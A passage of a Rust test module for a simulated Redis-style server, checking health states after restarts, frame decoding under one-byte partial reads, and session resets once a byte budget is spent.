        sim.advance_millis(1_500);
        memory.catch_up();

        let t0 = EXPERIMENT_START.as_millis();
        let restarted = t0 + delay;
        assert_eq!(
            health(&store.all()),
            [
                (
                    HealthState::Degraded,
                    1,
                    "accept loop died; restarting".into(),
                    t0
                ),
                (
                    HealthState::Degraded,
                    1,
                    "restarted (restart #1)".into(),
                    restarted
                ),
                (
                    HealthState::Healthy,
                    1,
                    "stable since restart".into(),
                    restarted + 1_500
                ),
            ]
        );
        let health = memory.health();
        assert_eq!((health.state, health.restarts), (HealthState::Healthy, 1));
        let connects: Vec<u64> = store
            .all()
            .iter()
            .filter(|e| matches!(e.kind, EventKind::Connect))
            .map(|e| e.session)
            .collect();
        assert_eq!(connects, [2, 3, 4, 5, 6, 7]);
    }

    #[test]
    fn one_byte_io_decodes_the_same_frames() {
        let commands: &[&[&str]] = &[
            &["PING"],
            &["SET", "key", "a value longer than one read"],
            &["GET", "key"],
            &["INFO"],
        ];
        let sim = SimClock::starting_at(EXPERIMENT_START);
        let clean = EventStore::new();
        let expected = visit(&mut redis(&clean, &sim, 7), commands).unwrap();
        let plan = FaultPlan {
            partial_per_mille: 1000,
            ..FaultPlan::new(1)
        };
        let faulted = EventStore::new();
        let mut memory = redis(&faulted, &sim, 7).with_faults(plan);
        assert_eq!(visit(&mut memory, commands).unwrap(), expected);
        assert_eq!(faulted.all(), clean.all());
    }

    #[test]
    fn a_reset_ends_the_session_once_its_budget_has_crossed() {
        // PING is 14 bytes and +PONG 7: the read after them finds the
        // 20-byte budget spent.
        let plan = FaultPlan {
            reset_per_mille: 1000,
            reset_after_bytes: 20,
            ..FaultPlan::new(1)
        };
        let store = EventStore::new();
        let sim = SimClock::starting_at(EXPERIMENT_START);
        let mut memory = redis(&store, &sim, 7).with_faults(plan);
        let replies = visit(&mut memory, &[&["PING"], &["PING"]]).unwrap();
        assert_eq!(replies, [Some(RespValue::Simple("PONG".into())), None]);
        let kinds: Vec<EventKind> = store.all().into_iter().map(|e| e.kind).collect();
        assert!(matches!(
            kinds.as_slice(),
            [
                EventKind::Connect,
                EventKind::Command { .. },
                EventKind::Disconnect
            ]
        ));
    }
}
